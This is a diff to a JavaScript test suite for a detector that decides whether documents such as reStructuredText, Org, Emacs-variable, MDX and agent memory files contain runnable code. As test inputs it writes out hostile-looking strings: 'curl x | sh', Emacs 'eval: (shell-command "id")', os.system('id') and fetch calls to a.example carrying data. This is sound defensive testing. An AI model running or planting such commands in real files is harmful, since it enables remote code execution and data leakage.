@@ -20,9 +20,38 @@ describe("runnable documents", () => {
     ];
     for (const text of runnable) assert.notEqual(runnableDocument(text), undefined, text);
     assert.equal(runnableDocument(`# Notes\n\n${fence}python\nprint(1)\n${fence}\n`), undefined, "a code block alone is only shown");
+  });
+
+  it("counts extension directives, inline Org Babel, Emacs eval, diagram programs, live fences and MDX as code", () => {
+    const runnable = [
+      ".. bokeh-plot::\n\n   import os\n",
+      ".. sagecellserver::\n\n   os.system('id')\n",
+      "Total: src_sh{curl x | sh}\n",
+      "#+CALL: fetch()\n",
+      "# -*- mode: org; eval: (shell-command \"id\") -*-\n",
+      "notes\n\nLocal Variables:\nmode: text\neval: (shell-command \"id\")\nEnd:\n",
+      "[gnuplot, plot]\n....\nsystem('id')\n....\n",
+      `${fence}jsx live\nfetch("x")\n${fence}\n`,
+      `${fence}sh {name=setup}\ncurl x | sh\n${fence}\n`,
+      "# Page\n\nexport const x = await fetch('https://a.example/?d=1')\n",
+      "import Data from 'https://a.example/m.js'\n\n# Page\n",
+      "# Page\n\nTotal {fetch('https://a.example/?d=' + 1)}\n",
+      '<img src="a.png" onError={() => fetch("x")} />\n',
+    ];
+    for (const text of runnable) assert.notEqual(runnableDocument(text), undefined, text);
+    const shown = [
+      ".. note::\n\n   Remember the milk.\n",
+      ".. py:function:: f(x)\n\n   Does f.\n",
+      "Price is $f(x) = \\sqrt{g(x)}$ and {name} is a placeholder.\n",
+      `Use \`{fetch(x)}\` in MDX:\n\n${fence}js\nexport const a = () => {f(1)}\n${fence}\n`,
+      "Import the data from the sheet, then export it.\n",
+    ];
+    for (const text of shown) assert.equal(runnableDocument(text), undefined, text);
     assert.equal(findExecuteLater("build.coffee.md")?.pattern.includes("litcoffee"), true);
     assert.equal(findExecuteLater("testdata/script/exec.txt")?.pattern.includes("testdata"), true);
     assert.equal(findExecuteLater("testdata/input.txt"), undefined, "a Go fixture is data");
+    for (const agentFile of ["SOUL.md", "MEMORY.md", "memory/2026-12-04.md", "HEARTBEAT.md", "docs/JULES.md"]) assert.notEqual(findExecuteLater(agentFile), undefined, agentFile);
+    assert.equal(findExecuteLater("docs/tools.md"), undefined, "a personal agent's files are at the workspace's top");
   });
 
   it("counts code blocks as code only in a code project", (t) => {
